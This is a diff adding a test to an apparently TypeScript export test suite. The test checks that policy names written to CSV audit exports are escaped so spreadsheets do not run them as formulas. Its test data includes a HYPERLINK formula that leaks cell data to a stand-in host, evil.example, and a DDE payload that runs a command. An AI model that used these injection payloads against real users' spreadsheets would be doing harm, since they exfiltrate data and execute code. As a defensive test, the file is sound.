@@ -112,6 +112,27 @@ describe('exports', () => {
     await waitForMail(tenant.user.email, (m) => m.subject === 'Your MindWeave export is ready' && m.text.includes(id));
   });
 
+  it('writes cells a spreadsheet would run as formulas as text (a policy named =HYPERLINK(...) in an AUDIT export)', async () => {
+    const tenant = await createTenant();
+    const names = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', '+1+1', '-2+3', '@SUM(A1:A9)', "=cmd|' /C calc'!A0", 'plain, with a comma'];
+    for (const name of names) {
+      const created = await gql('mutation ($input: CreatePolicyInput!) { createPolicy(input: $input) { id } }', { input: { organizationId: tenant.organizationId, name, type: 'MODEL_DENYLIST', rules: { models: ['x'] } } }, { token: tenant.user.accessToken });
+      expect(created.errors).toBeUndefined();
+    }
+    const now = Date.now();
+    const input = { organizationId: tenant.organizationId, type: 'AUDIT', format: 'CSV', from: new Date(now - 3_600_000).toISOString(), to: new Date(now + 3_600_000).toISOString() };
+    // The audit entries are written by governance with the change: they are there once the mutations answered.
+    const id = (await gql(requestExport, { input }, { token: tenant.user.accessToken })).data!.requestExport.id as string;
+    const job = await finished(id, tenant.user.accessToken);
+    expect(job['status']).toBe('SUCCEEDED');
+    const text = await (await fetch(job['downloadUrl'])).text();
+    const [header, ...rows] = parseCsv(text);
+    const column = header!.indexOf('policyName');
+    expect(rows.map((row) => row[column]).sort()).toEqual(["'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")", "'+1+1", "'-2+3", "'@SUM(A1:A9)", "'=cmd|' /C calc'!A0", 'plain, with a comma'].sort());
+    // No cell of the file starts a formula: every field is checked, not only the names.
+    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
+  });
+
   it('refuses a download whose signature is wrong, missing or expired with 403 FORBIDDEN', async () => {
     const tenant = await createTenant();
     const start = new Date(Date.UTC(2026, 1, 1));
